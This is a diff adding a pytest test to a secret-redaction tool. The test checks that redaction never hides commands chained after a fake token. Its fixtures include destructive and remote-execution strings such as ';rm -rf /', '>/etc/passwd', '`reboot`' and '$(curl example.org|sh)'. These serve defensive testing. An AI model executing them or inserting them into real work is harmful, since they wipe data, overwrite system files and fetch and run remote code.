@@ -388,3 +388,29 @@ def test_no_text_takes_for_ever(text: str) -> None:
 def test_every_rule_can_be_told_by_its_mark() -> None:
     names = [rule.id for rule in default_rules()]
     assert len(set(names)) == len(names)
+
+
+@pytest.mark.parametrize(
+    ("command", "rest"),
+    [
+        ("cat f secret=abcdef1234|sh", "|sh"),
+        ("ls --token=abcdefgh123;rm -rf /", ";rm -rf /"),
+        ("ls --token abcdefgh123;rm -rf /", ";rm -rf /"),
+        ("grep Authorization: Bearer abc;rm${IFS}-rf", ";rm${IFS}-rf"),
+        ("grep Cookie: sid=Fake7Dummy3;rm -rf /", ";rm -rf /"),
+        ("cat f token=abcdefghij12>/etc/passwd", ">/etc/passwd"),
+        ('echo ""password=abcdef1234;rm -rf /', ";rm -rf /"),
+        ('grep ""Authorization: Bearer abc;rm -rf /', ";rm -rf /"),
+        ("API_KEY=abcdef1234&reboot", "&reboot"),
+        ("API_KEY=abcdef1234`reboot`", "`reboot`"),
+        ("API_KEY=$(curl example.org|sh); cat f", "$(curl example.org|sh); cat f"),
+        ("mysql -pFake7Dummy`reboot`", "`reboot`"),
+        ("curl https://me:Fake7;reboot@example.org/", ";reboot@example.org/"),
+        ("curl 'https://example.org/?token=abcdef&x=1'", "&x=1'"),
+    ],
+)
+def test_no_command_vanishes_behind_a_secret(command: str, rest: str) -> None:
+    redactor = own()
+    clean, _ = redactor.text(command)
+    assert clean.endswith(rest)
+    assert redactor.text(clean)[0] == clean
